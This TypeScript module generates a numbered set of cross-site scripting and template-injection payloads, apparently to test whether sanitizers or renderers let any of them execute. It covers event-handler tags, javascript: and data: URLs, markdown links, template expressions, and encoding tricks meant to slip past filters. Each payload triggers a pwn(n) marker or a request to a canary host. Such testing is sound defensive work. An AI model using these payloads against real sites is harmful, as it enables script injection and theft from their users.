/**
 * Texts that become scripts, requests or foreign elements wherever they are taken for anything but text. Made from parts:
 * which element, how its attributes are written, what they say, out of which place they break.
 */

/** Whoever asks for it was made to. */
export const canaryHost = 'canary.example'

type Make = (code: string) => string

const elements: Make[] = [
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<math><mtext><img src=x onerror=${code}></mtext></math>`,
  (code) => `<body onload=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<select autofocus onfocus=${code}><option>1</select>`,
  (code) => `<textarea autofocus onfocus=${code}></textarea>`,
  (code) => `<button autofocus onfocus=${code}>press</button>`,
  (code) => `<a tabindex=1 autofocus onfocus=${code}>here</a>`,
  (code) => `<details open ontoggle=${code}><summary>more</summary></details>`,
  (code) => `<video src=x onerror=${code}></video>`,
  (code) => `<audio src=x onerror=${code}></audio>`,
  (code) => `<video><source src=x onerror=${code}></video>`,
  (code) => `<marquee onstart=${code}>news</marquee>`,
  (code) => `<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=${code}>b</b>`,
  (code) => `<dialog open onclose=${code}><form method=dialog><button>ok</button></form></dialog>`,
  (code) => `<iframe srcdoc='<script>parent.${code}</script>'></iframe>`,
  (code) => `<iframe src=javascript:parent.${code}></iframe>`,
  (code) => `<object data=javascript:${code}></object>`,
  (code) => `<embed src=javascript:${code}>`,
  (code) => `<form action=javascript:${code}><button>send</button></form>`,
  (code) => `<button formaction=javascript:${code} form=f>send</button>`,
  (code) => `<meta http-equiv=refresh content=0;url=javascript:${code}>`,
  (code) => `<base href=javascript:${code}//>`,
  (code) => `<script>${code}</script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<x-y is=z onclick=${code} contenteditable autofocus onfocus=${code}>`,
]

const fetching = [
  'img src',
  'script src',
  'link rel=stylesheet href',
  'iframe src',
  'object data',
  'embed src',
  'video poster',
]
const otherFetching = [
  'input type=image src',
  'link rel=prefetch href',
  'link rel=dns-prefetch href',
  'body background',
]

/** How one and the same is written so that a search for it finds nothing. */
const disguises: ((attack: string) => string)[] = [
  (attack) => attack.toUpperCase().replaceAll('PWN', 'pwn'),
  (attack) => attack.replaceAll(' ', '/'),
  (attack) => attack.replaceAll(' ', '\n'),
  (attack) => attack.replaceAll(' ', '\t'),
  (attack) => attack.replace(/=(\S+)>/, '="$1">'),
  (attack) => attack.replace(/=(\S+)>/, "='$1'>"),
  (attack) => attack.replace('>', ''),
  (attack) => `<<${attack}`,
  (attack) => attack.replace('<', '<\u200b'),
  (attack) => attack.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (attack) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attack) => attack.replaceAll('<', '&#x3c;').replaceAll('>', '&#62;'),
  (attack) => attack.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (attack) => attack.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (attack) => attack.replace('(', '&lpar;').replace(')', '&rpar;'),
]

/** Ends of what a text may stand in. */
const ends = [
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '" ',
  "' ",
  '\\"',
  '\\\\"',
  '</p></li></ul>',
  '\u2028',
  '}}',
]

/** Addresses that are code, for places in which an address is written. */
const addresses: Make[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `&#106;avascript:${code}`,
  (code) => `javascript://example.com/%0a${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `view-source:javascript:${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => `data:text/html;base64,${btoa(`<script>parent.${code}</script>`)}`,
  (code) => `blob:https://example.com/${code}`,
  (code) => `https://example.com" onmouseover="${code}`,
  (code) => `https://example.com' onfocus='${code}' autofocus='`,
]

/** How markdown and its relatives write a link or a picture. */
const links: Make[] = [
  (to) => `[here](${to})`,
  (to) => `[here](<${to}>)`,
  (to) => `![picture](${to})`,
  (to) => `<${to}>`,
  (to) => `[here][1]\n\n[1]: ${to}`,
  (to) => `[![picture](${to})](${to})`,
  (to) => `<a href="${to}">here</a>`,
  (to) => `[a](${to} "title" onclick="x")`,
]

/** Taken for a program by whoever fills in templates. */
const templates: Make[] = [
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{$on.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `{%${code}%}`,
  (code) => `';${code};//`,
  (code) => `";${code};//`,
  (code) => `\\';${code};//`,
  (code) => `{"__html":"<img src=x onerror=${code}>"}`,
  (code) => `__proto__[innerHTML]=<img src=x onerror=${code}>`,
  () => `red;background:url(https://${canaryHost}/css)`,
  () => `@import 'https://${canaryHost}/css';`,
  () => `expression(pwn(0))`,
]

/** Every one with a number of its own, by which it can be told what ran. */
export function scriptAttacks(): string[] {
  const [picture = () => ''] = elements
  const makes: Make[] = [
    ...elements,
    ...[...fetching, ...otherFetching].map(
      (place) => () => `<${place}=https://${canaryHost}/${place.length}>`,
    ),
    ...disguises.map(
      (disguise): Make =>
        (code) =>
          disguise(picture(code)),
    ),
    ...disguises.map(
      (disguise): Make =>
        (code) =>
          disguise(`<script>${code}</script>`),
    ),
    ...ends.map(
      (end): Make =>
        (code) =>
          `${end}${picture(code)}`,
    ),
    ...links.flatMap((link) =>
      addresses.map(
        (address): Make =>
          (code) =>
            link(address(code)),
      ),
    ),
    ...links
      .map((link) => () => link(`https://${canaryHost}/link.png`))
      .filter((_, nth) => nth === 2 || nth === 5),
    ...templates,
  ]
  return makes.map((make, nth) => make(`pwn(${nth})`))
}
